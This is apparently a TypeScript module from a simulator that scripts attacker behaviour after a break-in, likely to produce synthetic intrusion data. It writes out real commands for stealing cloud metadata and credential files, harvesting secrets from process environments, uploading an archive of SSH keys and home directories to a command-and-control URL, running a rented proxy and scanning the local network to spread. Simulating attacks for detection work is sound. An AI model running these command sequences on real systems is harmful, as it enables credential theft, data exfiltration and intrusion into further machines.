import type { Foothold } from '../../gangs/gang.ts'
import type { Act } from '../../schedule.ts'
import { word } from './draw.ts'

const METADATA_IP = '169.254.169.254'
const HTTP_PORT = 80

/** What the instance's role may do, and the keys to do it with. */
export function* askMetadata(foothold: Foothold): Act {
  const { hands, machine, random } = foothold
  const base = `http://${METADATA_IP}/latest/meta-data`
  const urls = [
    `${base}/iam/info`,
    `${base}/iam/security-credentials/`,
    `${base}/iam/security-credentials/instance`,
  ]
  for (const url of urls) {
    const curl = yield* hands.run(['curl', '-s', '-m', '5', url], { replyBytes: 420 })
    machine.calls.connected(curl, METADATA_IP, HTTP_PORT, true)
    yield* foothold.pause('script')
  }
  if (random.chance(0.5)) yield* hands.run(['aws', 'sts', 'get-caller-identity'], { replyBytes: 160 })
}

/** Keys and tokens that lie about. */
export function* gatherSecrets(foothold: Foothold): Act {
  const { hands, random } = foothold
  const finds: readonly (readonly [string, ...string[]])[] = [
    ['cat', '/root/.aws/credentials'],
    ['cat', '/root/.docker/config.json'],
    ['cat', '/root/.kube/config'],
    ['find', '/', '-name', 'id_rsa', '-not', '-path', '/proc/*'],
    ['grep', '-rEl', 'AKIA[0-9A-Z]{16}', '/home', '/root', '/opt'],
    ['sh', '-c', 'cat /proc/*/environ | tr "\\0" "\\n" | egrep -i "key|token|secret|pass"'],
    ['find', '/home', '/root', '-name', '.git-credentials'],
    ['cat', '/root/.ssh/known_hosts'],
  ]
  for (const find of finds) {
    if (!random.chance(0.5)) continue
    yield* hands.run(find, { replyBytes: random.integer(80, 2600) })
    yield* foothold.pause('script')
  }
}

/** Puts what it found into one file and sends it home. */
export function* sendHome(foothold: Foothold): Act {
  const { hands, machine, random, gang } = foothold
  const bundle = `${random.pick(['/tmp', '/var/tmp', '/dev/shm'])}/.${word(random, 3, 6)}.tgz`
  const tar = yield* hands.run(['tar', 'czf', bundle, '/root/.ssh', '/home', '/etc/passwd'], {
    replyBytes: 60,
  })
  foothold.write(bundle, { what: 'archive', isNew: true }, tar)
  const { ip, name } = gang.traits.download
  const url = `http://${name ?? ip}/${random.pick(['up.php', 'u', 'in', 'c2/save'])}`
  const curl = yield* hands.run(['curl', '-s', '-F', `file=@${bundle}`, url], { replyBytes: 20 })
  machine.calls.connected(curl, ip, HTTP_PORT, true)
  yield* foothold.pause('script')
  const rm = yield* hands.run(['rm', '-f', bundle])
  foothold.remove(bundle, rm)
}

/** A proxy that others rent: it has nothing to do with mining. */
export function* openProxy(foothold: Foothold): Act {
  const { hands, random, gang } = foothold
  const folder = foothold.isRoot ? random.pick(['/usr/local/bin', '/opt', '/var/tmp']) : '/var/tmp'
  const path = `${folder}/${random.pick(['microsocks', '3proxy', 'gost', 'frpc'])}`
  const [first = '/p'] = gang.traits.download.paths
  if (!(yield* foothold.fetch(`${first}${random.integer(1, 9)}`, path, { what: 'proxy' }))) return
  yield* foothold.changeMode(path, 0o755)
  yield* hands.spawn([path, '-p', String(random.pick([1080, 9050, 8888, 40_001]))])
}

/** Tools that look for the next machines, in this network and outside. */
export function* lookForNext(foothold: Foothold): Act {
  const { hands, random, machine } = foothold
  const network = machine.facts.address.replace(/\.\d+$/u, '.0/24')
  const port = random.pick(['22', '2375', '6379', '10250'])
  if (foothold.isRoot && random.chance(0.6))
    yield* hands.run(['apt-get', 'install', '-y', 'masscan'], { replyBytes: 1400 })
  yield* hands.run(['masscan', network, '-p', port, '--rate', '1000', '-oL', `/tmp/.${word(random, 3, 5)}`], {
    replyBytes: 300,
  })
  for (const address of foothold.knownHosts()) {
    if (random.chance(foothold.gang.traits.spreads)) yield* foothold.spreadTo(address)
  }
}
